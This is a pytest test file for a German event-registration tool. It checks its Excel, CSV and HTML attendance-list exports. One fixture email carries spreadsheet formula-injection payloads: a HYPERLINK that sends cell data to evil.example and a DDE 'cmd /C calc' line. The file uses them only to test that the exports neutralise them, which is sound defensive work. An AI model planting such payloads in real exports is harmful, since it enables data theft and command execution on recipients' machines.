"""Exports through the real CLI (Dovecot + SQLite): Excel workbook, attendance list, CSV;
and the pure attendance-list rendering."""

from __future__ import annotations

import datetime as dt
import stat
from pathlib import Path

import openpyxl

from anmeldung.config import load_config
from anmeldung.devservers import append
from anmeldung.exports import attendance_html, sort_key
from conftest import MAILBOX_USER, MailServers, registration_mail, run_cli, write_config


def _registered(servers: MailServers, tmp_path: Path, n: int = 3) -> Path:
    config = write_config(tmp_path / "anmeldung.toml", servers, capacity=2)
    run_cli(config, "init")
    client = servers.dovecot.imap(MAILBOX_USER)
    try:
        for i in range(1, n + 1):
            append(client, "INBOX", registration_mail(i)[1])
    finally:
        client.logout()
    run_cli(config, "poll")
    return config


def test_xlsx_html_and_csv(servers: MailServers, tmp_path: Path) -> None:
    config = _registered(servers, tmp_path)
    out = tmp_path / "teilnehmer.xlsx"
    result = run_cli(config, "export", "--format", "xlsx", "-o", str(out))
    assert "wrote 3 registration(s)" in result.err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600

    ws = openpyxl.load_workbook(out).active
    assert ws is not None
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:3] == ("Nr.", "E-Mail", "Name")
    assert [r[1] for r in rows[1:]] == [registration_mail(i)[0] for i in (1, 2, 3)]
    assert [r[8] for r in rows[1:]] == ["confirmed", "confirmed", "waitlisted"]
    registered = rows[1][10]
    assert isinstance(registered, dt.datetime)  # a real date cell, in local time
    assert abs(registered - dt.datetime.now().replace(microsecond=0)) < dt.timedelta(days=1)
    assert ws["K2"].number_format == "DD.MM.YYYY HH:MM"
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width > len("person1@kreis1.example")

    html = run_cli(config, "export", "--format", "html").out
    assert "Teilnehmerliste" in html
    assert "Unterschrift" in html
    assert "Altes Rathaus, Markt 2, 53111 Bonn" in html
    assert "18.03.2027, 09:00 Uhr" in html
    assert "@media print" in html or "@page" in html
    # Confirmed only, by surname: Hoffmann (1), Schulz (2); Koch (3) waits.
    assert html.index("Anna Hoffmann") < html.index("Anna Schulz")
    assert "Anna Koch" not in html
    english = run_cli(config, "export", "--format", "html", "--lang", "en").out
    assert "Signature" in english
    assert "Attendance list" in english

    csv = run_cli(config, "export", "--format", "csv", "--delimiter", ";").out
    assert csv.startswith("\ufeffid;email;name;")
    assert len(csv.strip().splitlines()) == 4


def test_attendance_list_sorts_by_surname_and_escapes(tmp_path: Path) -> None:
    path = write_config_file(tmp_path)
    config = load_config(path)
    rows = [
        {"id": 1, "name": "Zoë Özdemir", "title": None, "organisation": "A & B", "email": "z@x"},
        {"id": 2, "name": "Jan Müller", "title": "Dr.", "organisation": None, "email": "j@x"},
        {"id": 3, "name": "Eva Mueller", "title": None, "organisation": None, "email": "e@x"},
        {"id": 4, "name": "<b>Max</b> Adam", "title": None, "organisation": None, "email": "m@x"},
    ]
    html = attendance_html(rows, config)
    order = ["&lt;b&gt;Max&lt;/b&gt; Adam", "Eva Mueller", "Dr. Jan Müller", "Zoë Özdemir"]
    positions = [html.index(name) for name in order]
    assert positions == sorted(positions)
    assert "A &amp; B" in html
    assert "<b>Max" not in html
    assert sort_key(rows[1])[0] == "muller"


def write_config_file(tmp_path: Path) -> Path:
    path = tmp_path / "a.toml"
    path.write_text(
        """
[event]
name = "Symposium"
starts = 2027-03-18T09:00:00+01:00
ends = 2027-03-18T17:00:00+01:00
venue = "Bonn"
[mailbox]
host = "127.0.0.1"
port = 143
security = "none"
username = "a@b.example"
password = "x"
[smtp]
host = "127.0.0.1"
port = 25
security = "none"
from = "a@b.example"
""",
        encoding="utf-8",
    )
    return path


FORMULA_MAIL = (
    b"From: Eva Klein <=1+1@formel.example>\r\n"
    b"To: anmeldung@stadt.example\r\n"
    b"Subject: Anmeldung\r\n"
    b"Message-ID: <formel-1@formel.example>\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"Hiermit melde ich mich verbindlich an.\r\n\r\n"
    b"Name: Eva Klein\r\n"
    b'Organisation: =HYPERLINK("http://evil.example/?d="&A2,"Stadt Bonn")\r\n'
    b"Funktion: +cmd|' /C calc'!A0\r\n"
)


def test_exports_keep_formulas_from_strangers_as_text(
    servers: MailServers, tmp_path: Path, db_url: str
) -> None:
    """A registrant's "=HYPERLINK(…)" must reach the organiser's spreadsheet as text (OWASP
    CSV injection), in CSV and in the workbook; the stored value and JSON stay as written."""
    import csv
    import io
    import json

    config = write_config(tmp_path / "anmeldung.toml", servers, capacity=2, db_url=db_url)
    run_cli(config, "init")
    client = servers.dovecot.imap(MAILBOX_USER)
    try:
        append(client, "INBOX", FORMULA_MAIL)
    finally:
        client.logout()
    run_cli(config, "poll")
    stored = json.loads(run_cli(config, "export", "--format", "json").out)
    assert stored[0]["organisation"].startswith("=HYPERLINK(")
    assert stored[0]["email"] == "=1+1@formel.example"

    out = tmp_path / "liste.csv"
    result = run_cli(config, "export", "--format", "csv", "--delimiter", ";", "-o", str(out))
    assert "wrote 1 registration(s)" in result.err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert not list(tmp_path.glob(".liste.csv.*"))  # the part file was renamed
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig")), delimiter=";"))
    assert rows[0]["organisation"] == "'" + stored[0]["organisation"]
    assert rows[0]["function"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["email"] == "'=1+1@formel.example"
    assert rows[0]["name"] == "Eva Klein"  # ordinary text untouched
    assert run_cli(config, "export", "--format", "csv", "--delimiter", ";").out == out.read_text(
        "utf-8"
    )

    book = tmp_path / "liste.xlsx"
    run_cli(config, "export", "--format", "xlsx", "-o", str(book))
    ws = openpyxl.load_workbook(book).active
    assert ws is not None
    assert ws["F2"].value == stored[0]["organisation"]
    assert ws["F2"].data_type == "s"  # text, not a formula
    assert ws["B2"].data_type == "s"


def test_write_csv_streams_rows() -> None:
    import io

    from anmeldung.reports import EXPORT_FIELDS, spreadsheet_text, write_csv

    def rows():  # type: ignore[no-untyped-def]
        for i in range(3):
            yield {"id": i, "name": f"-{i}" if i else "Anna", "status": "confirmed"}

    out = io.StringIO()
    assert write_csv(rows(), out, ";", bom=False) == 3
    lines = out.getvalue().split("\r\n")
    assert lines[0] == ";".join(EXPORT_FIELDS)
    assert lines[1].startswith("0;;Anna;")
    assert lines[2].startswith("1;;'-1;")
    assert spreadsheet_text("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_text("Stadt Bonn") == "Stadt Bonn"
    assert spreadsheet_text(5) == 5
